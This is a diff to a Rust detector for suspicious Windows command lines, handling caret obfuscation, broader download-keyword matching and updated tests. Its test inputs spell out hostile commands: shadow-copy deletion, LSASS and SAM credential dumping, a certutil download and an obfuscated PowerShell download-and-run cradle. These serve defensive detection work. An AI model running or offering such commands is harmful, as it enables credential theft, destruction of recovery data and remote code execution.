@@ -138,7 +138,9 @@ pub fn is_made_up(name: &str) -> bool {
         return false;
     }
     let chars: Vec<char> = name.chars().collect();
-    let changes = chars.windows(2).filter(|w| w[0].is_ascii_lowercase() != w[1].is_ascii_lowercase()).count();
+    let both = |w: &&[char]| w.iter().all(char::is_ascii_alphabetic);
+    let turns = |w: &&[char]| w[0].is_ascii_lowercase() != w[1].is_ascii_lowercase();
+    let changes = chars.windows(2).filter(both).filter(turns).count();
     let lower = name.to_ascii_lowercase();
     let vowel = |b: u8| matches!(b, b'a' | b'e' | b'i' | b'o' | b'u' | b'y');
     let mut run = 0;
@@ -191,6 +193,9 @@ fn command(line: &str, level: usize, found: &mut BTreeSet<Sign>) {
     if line.matches('^').count() > 8 {
         found.insert(Sign::Obfuscated);
     }
+    // The shell takes carets out before it runs a line.
+    let plain = if level > 0 { line.replace('^', "") } else { line.to_string() };
+    let line = plain.as_str();
     let name = program(&first(line));
     let words = words(line);
     let rest = &words[1.min(words.len())..];
@@ -433,7 +438,7 @@ fn script(text: &str, level: usize, found: &mut BTreeSet<Sign>) {
             edge(text[..at].chars().next_back()) && edge(text[at + wanted.len()..].chars().next())
         })
     };
-    let fetches = any(&[".downloadstring(", ".downloadfile(", ".downloaddata(", "start-bitstransfer"])
+    let fetches = any(&["downloadstring", "downloadfile", "downloaddata", "start-bitstransfer"])
         || (word("invoke-webrequest")
             || word("iwr")
             || word("wget")
@@ -518,12 +523,15 @@ mod tests {
         assert_eq!(told(encoded), "encoded download runs_text hidden");
         assert_eq!(
             told("cmd.exe /c \"p^o^w^e^r^s^h^e^l^l -EncodedC AAAA & vssadmin delete shadows /all\""),
-            "encoded no_recovery"
+            "encoded no_recovery obfuscated"
         );
         assert_eq!(told(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full"), "credentials");
         assert_eq!(told(r"C:\Windows\System32\reg.exe save HKLM\SAM sam.hiv"), "credentials");
         assert_eq!(told("certutil –urlcache -split -f http://x/y y.exe"), "download by_proxy");
-        assert_eq!(told("powershell.exe I`E`X (New-Object Net.WebClient).('Down'+'loadString')('http://x')"), "");
+        assert_eq!(
+            told("powershell.exe I`E`X (New-Object Net.WebClient).('Down'+'loadString')('http://x')"),
+            "download runs_text"
+        );
         for innocent in [
             r#""C:\Program Files\Git\bin\git.exe" fetch -e origin"#,
             "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
